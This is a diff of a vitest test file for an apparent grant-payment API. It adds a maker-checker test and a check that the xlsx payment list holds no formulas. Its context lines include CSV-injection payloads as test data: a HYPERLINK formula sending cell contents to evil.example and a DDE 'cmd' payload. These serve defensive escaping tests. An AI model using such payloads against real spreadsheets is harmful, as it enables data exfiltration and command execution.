@@ -1,3 +1,4 @@
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { testDialects } from '../../test-support/db.js';
 import { type Client, TestEnv } from '../../test-support/env.js';
@@ -125,6 +126,53 @@ describe.each(testDialects)('money duties on %s', (dialect) => {
     expect((await finance.post(`/api/v1/grants/${ok.body.grant.id}/mark`, { status: 'paid' })).status).toBe(200);
   });
 
+  it('the organiser of a campaign neither decides nor pays its entries', async () => {
+    await env.user('organiser', m.county.id, ['admin', 'approver', 'finance']);
+    const organiser = await env.login('organiser');
+    const r = await m.admin.post('/api/v1/programmes/rules', {
+      orgId: m.county.id,
+      templateId: 'seed004.p2.holiday',
+      effectiveFrom: '2020-01-01',
+      params: { amounts: { moderateFen: 200_000 } },
+    });
+    expect(r.status, r.text).toBe(201);
+    const c = await organiser.post('/api/v1/campaigns', {
+      orgId: m.county.id,
+      programme: 'holiday',
+      templateId: 'seed004.p2.holiday',
+      title: '春节送温暖',
+      startsOn: env.ctx.clock.now().toISOString().slice(0, 10),
+      endsOn: '2099-12-31',
+    });
+    expect(c.status, c.text).toBe(201);
+    const e = await clerk.post('/api/v1/applications', {
+      householdId: m.ids[2],
+      campaignId: c.body.id,
+      inputs: { hardship: 'very', veteran: true },
+    });
+    expect(e.status, e.text).toBe(201);
+    const bulk = await organiser.post(`/api/v1/campaigns/${c.body.id}/decision`, { decision: 'approve' });
+    expect(bulk.body.error.code).toBe('MAKER_CHECKER');
+    const one = await organiser.post(`/api/v1/applications/${e.body.id}/decision`, { decision: 'approve' });
+    expect(one.body.error.code).toBe('MAKER_CHECKER');
+    const ok = await approver.post(`/api/v1/campaigns/${c.body.id}/decision`, { decision: 'approve' });
+    expect(ok.body.decided).toBe(1);
+    const grant = (await clerk.get(`/api/v1/applications/${e.body.id}`)).body.grant;
+    const holidayFund = await finance.post('/api/v1/funds', {
+      orgId: m.county.id,
+      name: '送温暖',
+      source: 'union',
+      year: 2027,
+    });
+    await finance.post(`/api/v1/funds/${holidayFund.body.id}/receipts`, { amountFen: 1_000_000, memo: '经费' });
+    const pay = { status: 'paid', fundId: holidayFund.body.id };
+    expect((await organiser.post(`/api/v1/grants/${grant.id}/mark`, pay)).body.error.code).toBe(
+      'PAYER_NOT_INDEPENDENT',
+    );
+    const paid = await finance.post(`/api/v1/grants/${grant.id}/mark`, pay);
+    expect(paid.status, paid.text).toBe(200);
+  });
+
   it('the read-only auditor cannot comment; every comment is audited', async () => {
     const id = await computed(clerk, '2027Q4');
     const denied = await auditor.post(`/api/v1/batches/${id}/comments`, { comment: '审计意见' });
@@ -185,6 +233,23 @@ describe.each(testDialects)('money duties on %s', (dialect) => {
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点此"")"`);
     expect(csv.text).toContain("'@SUM(1+1)*cmd|x");
     expect(csv.text).not.toMatch(/(^|,)[=@+-]/m);
+    // The payment list's .xlsx writes names as text cells, never as formulas.
+    const xlsx = await env.app.inject({
+      method: 'GET',
+      url: `/api/v1/batches/${id}/payment-list.xlsx`,
+      headers: { cookie: (finance as { cookie?: string }).cookie ?? '' },
+    });
+    expect(xlsx.statusCode).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const cells: ExcelJS.Cell[] = [];
+    wb.worksheets[0]?.eachRow((row) => {
+      row.eachCell((cell) => {
+        cells.push(cell);
+      });
+    });
+    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+    expect(cells.some((c) => c.value === hostile[0])).toBe(true);
   });
 
   it('an unknown fund, another county’s fund or an id beyond int4 answers 4xx with a code, never 500', async () => {
